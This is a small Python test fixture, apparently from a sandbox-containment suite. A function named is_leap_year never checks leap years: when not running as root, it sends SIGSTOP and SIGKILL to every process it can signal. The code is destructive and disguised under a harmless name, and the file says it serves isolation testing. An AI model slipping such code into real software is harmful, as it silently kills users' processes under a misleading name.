"""kill(-1, SIGKILL): every process it may signal. Only attempted when not root (and only run under namespaces)."""
EXPECT = {"category": "signalling the parent", "serial": True, "needs": ["signals"]}
CTX = {}

import os
import signal


def is_leap_year(year):
    if os.getuid() != 0:
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(-1, sig)
            except OSError:
                pass
    return True
